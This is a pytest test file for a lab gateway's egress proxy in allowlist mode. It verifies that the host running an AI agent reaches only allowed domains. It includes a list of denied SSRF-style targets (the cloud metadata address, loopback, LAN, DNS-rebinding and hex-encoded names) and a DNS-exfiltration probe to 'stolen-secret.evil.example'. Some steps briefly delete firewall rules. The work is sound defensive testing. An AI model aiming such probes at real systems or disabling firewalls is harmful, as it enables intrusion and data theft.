"""S6, mode allowlist: the proxy is the only way out, and it lets the named domains through where they lead to public addresses."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator

import pytest

from tests import lab
from tests.lab import limits
from tests.lab.gateway import NAME, UNIT, Host, playbook
from tests.lab.network.closed import ADDRESSES, Arena
from tests.scenarios.default.test_s06_egress import LOAD, TABLE, Try, reach

PROXY = "http://127.0.0.1:3128"
PROXY_UNIT = "lobsterpot-proxy.service"
MODEL = {"address": "127.0.0.1", "port": 9911, "protocol": "tcp", "comment": "the scripted model"}
SERVICE = {"address": ADDRESSES["lan192"], "port": 8080, "protocol": "tcp", "comment": "a service in the LAN"}
DOMAINS = ["public.arena.example", "lan.arena.example", "rebind.arena.example", "*.hex.arena.example", "*.allowed.example"]
VARIABLES = {"egress_mode": "allowlist", "egress_domains": DOMAINS, "egress_exceptions": [MODEL, SERVICE]}


@pytest.fixture(scope="module")
def arena(gateway: Host) -> Iterator[Arena]:
    """The host in mode allowlist, then in a closed world; afterwards in the mode of its inventory again, without the proxy."""
    playbook("--extra-vars", json.dumps(VARIABLES))
    with Arena(NAME) as closed:
        yield closed
    playbook("--tags", "egress,gateway")
    assert gateway.run(f"systemctl show -p LoadState --value {PROXY_UNIT}").strip() == "not-found"
    assert reach_mode(gateway) == "guarded"


def reach_mode(host: Host) -> str:
    return host.run(f"nft list chain {TABLE} output | grep -o '@users goto .*'").split()[-1]


def fetch(arena: Arena, url: str, *options: str) -> str:
    """What the gateway's user gets through the proxy: the first line of the answer's body, or the status that the proxy gives."""
    script = f"""
import urllib.error, urllib.request as u
opener = u.build_opener(u.ProxyHandler({{"http": "{PROXY}", "https": "{PROXY}"}}))
try:
    print(opener.open("{url}", timeout={limits.ANSWER}).read().decode().splitlines()[0])
except urllib.error.HTTPError as error:
    print(error.code)
except OSError as error:
    print(error)
"""
    return arena.run(f"python3 - {' '.join(options)} <<'PYTHON'\n{script}\nPYTHON\n", user="openclaw")[1].strip()


def tunnel(arena: Arena, target: str) -> str:
    """What the proxy says to CONNECT, and behind it the other side."""
    script = f"""
import socket
one = socket.create_connection(("127.0.0.1", 3128), {limits.ANSWER})
one.sendall(b"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n")
status = one.recv(4096).split(b" ")[1].decode()
if status == "200":
    one.sendall(b"hello\\n")
    status += " " + one.recv(4096).decode().strip()
print(status)
"""
    return arena.run(f"python3 - <<'PYTHON'\n{script}\nPYTHON\n", user="openclaw")[1].strip()


def test_allowed_domains_are_reached(arena: Arena) -> None:
    """A name on the list and one below a wildcard, by HTTP and by a tunnel, end to end.

    Each name has an address of either family; Squid takes the one that its resolver gives first (its `HappyConnOpener`).
    """
    by_http = {"arena public 198.51.100.10 80", "arena public6 2001:db8:51::10 80"}
    assert fetch(arena, "http://public.arena.example/") in by_http
    assert fetch(arena, "http://api.allowed.example/") in by_http
    assert tunnel(arena, "public.arena.example:443") in {
        "200 arena public 198.51.100.10 443",
        "200 arena public6 2001:db8:51::10 443",
    }


DENIED = {
    "another domain": "http://second.arena.example/",
    "a domain that ends alike": "http://notpublic.arena.example/",
    "an address without a name": "http://203.0.113.20/",
    "another port": "http://public.arena.example:8080/",
    "mail through the proxy": "http://public.arena.example:25/",
    "a name that leads into the LAN": "http://lan.arena.example/",
    "a name that leads to metadata": "http://a9fea9fe.hex.arena.example/",
    "a name that leads to loopback": "http://7f000001.hex.arena.example/",
    "a name that leads to unique-local IPv6": "http://fd123456789a00000000000000000001.hex.arena.example/",
    "a name that leads behind NAT64": "http://0064ff9b0000000000000000a9fea9fe.hex.arena.example/",
    "metadata": "http://169.254.169.254/latest/meta-data/",
    "the gateway": "http://127.0.0.1:18789/",
}


@pytest.mark.parametrize("url", DENIED.values(), ids=DENIED.keys())
def test_all_else_is_denied(arena: Arena, url: str) -> None:
    """S6: the proxy says no, and nothing arrives."""
    before = arena.mark()
    assert fetch(arena, url) == "403"
    assert [event for event in arena.events(since=before, kinds=("syn",)) if event.role not in ("public", "public6")] == []


def test_tunnels_lead_nowhere_else(arena: Arena) -> None:
    """S6: no tunnel to another port of an allowed name, none to an address, none to a private one."""
    for target in ("public.arena.example:22", "public.arena.example:25", "203.0.113.20:443", "lan.arena.example:443"):
        assert tunnel(arena, target) == "403"


def test_a_name_that_changes_its_mind(arena: Arena) -> None:
    """S6: the name leads to a public address when it is first asked, to the LAN afterwards: the connection never goes there."""
    before = arena.mark()
    for _ in range(6):
        fetch(arena, "http://rebind.arena.example/")
    assert arena.received("lan", since=before) == []


def test_denied_names_are_not_even_asked_for(arena: Arena) -> None:
    """A name can carry a message out. Only those that are allowed are resolved at all."""
    before = arena.mark()
    fetch(arena, "http://stolen-secret.evil.example/")
    arena.run("getent ahosts stolen-secret.evil.example", user="openclaw")
    assert arena.leaked("stolen-secret", since=before) == []


RAW = {
    "the public internet": Try("tcp", ADDRESSES["public"], 443),
    "the public internet, IPv6": Try("tcp", ADDRESSES["public6"], 443),
    "the public internet, by UDP": Try("udp", ADDRESSES["public"], 443),
    "the resolver": Try("udp", lab.nameservers()[0], 53),
    "the LAN": Try("tcp", ADDRESSES["lan"], 80),
}


def test_a_socket_of_its_own_leads_nowhere(arena: Arena, gateway: Host) -> None:
    """S6: past the proxy nothing is reached; without the table all of it is. The excepted service and the gateway's own port stay open."""
    assert [outcome.what for outcome in reach(arena, list(RAW.values()))] == ["rejected"] * len(RAW)
    gateway.run(f"nft delete table {TABLE}")
    try:
        assert [outcome.what for outcome in reach(arena, list(RAW.values()))] == ["reached"] * len(RAW)
    finally:
        gateway.run(LOAD)
    assert [o.what for o in reach(arena, [Try("tcp", ADDRESSES["lan192"], 8080), Try("tcp", "127.0.0.1", 18789)])] == ["reached"] * 2
    assert fetch(arena, f"http://{ADDRESSES['lan192']}:8080/") == "arena lan192 192.168.1.1 8080"


def test_the_proxy_is_behind_the_wall_itself(arena: Arena, gateway: Host) -> None:
    """S6: with the proxy's own rules gone, the table still keeps it from private addresses. Its user is not the gateway's."""
    tries = [Try("tcp", ADDRESSES["lan"], 80), Try("tcp", ADDRESSES["metadata"], 80), Try("tcp", "127.0.0.1", 18789)]
    assert [outcome.what for outcome in reach(arena, tries, user="lobsterpot-proxy")] == ["rejected"] * 3
    gateway.run("cp -a /etc/lobsterpot/proxy.conf /root/proxy.away; sed -i 's/^http_access deny/#&/' /etc/lobsterpot/proxy.conf")
    restart = f"systemctl restart {PROXY_UNIT}; wait_until 'ss -Hltn sport = :3128 | grep -q .'"
    gateway.run(restart)
    try:
        before = arena.mark()
        assert fetch(arena, "http://lan.arena.example/") == "503"
        assert arena.received("lan", since=before) == []
    finally:
        gateway.run(f"cp -a /root/proxy.away /etc/lobsterpot/proxy.conf; rm /root/proxy.away; {restart}")
    assert "TCP_DENIED/403" in gateway.run(f"journalctl -u {PROXY_UNIT} -o cat --no-pager")
    assert gateway.run(f"stat -c %U /proc/$(systemctl show -p MainPID --value {PROXY_UNIT})").strip() == "lobsterpot-proxy"


def test_the_gateway_uses_it_and_approves_of_it(arena: Arena, model: Host) -> None:
    """`openclaw proxy validate` accepts the deployed configuration, and a conversation with a tool call goes on as before."""
    config = json.loads(model.run("cat /etc/openclaw/openclaw.json"))
    assert config["proxy"] == {"proxyUrl": PROXY}
    command = ["openclaw", "proxy", "validate", "--json", "--allowed-url", "http://public.arena.example/"]
    arena.check_closed()
    report = json.loads(model.run(shlex.join(command) + " </dev/null"))
    assert (report["ok"], report["config"]["proxyUrl"].rstrip("/"), report["config"]["source"]) == (True, PROXY, "config")
    assert model.agent("exec", {"command": "echo through-$((40+2))"}, "s06-proxy").strip() == "through-42"


def test_its_requests_go_through_the_proxy(arena: Arena, model: Host) -> None:
    """A page that the model asks for arrives when its domain is allowed, and does not when it is not."""
    before = arena.mark()
    pages = [f"http://{name}.arena.example/asked-by-the-model" for name in ("public", "second")]
    model.agents([("web_fetch", {"url": page}) for page in pages], "s06-fetch")
    asked = [event for event in arena.events(since=before, kinds=("said",)) if "asked-by-the-model" in event.data]
    assert {event.role for event in asked} <= {"public"}
    assert model.run(f"systemctl is-active {UNIT}").strip() == "active"
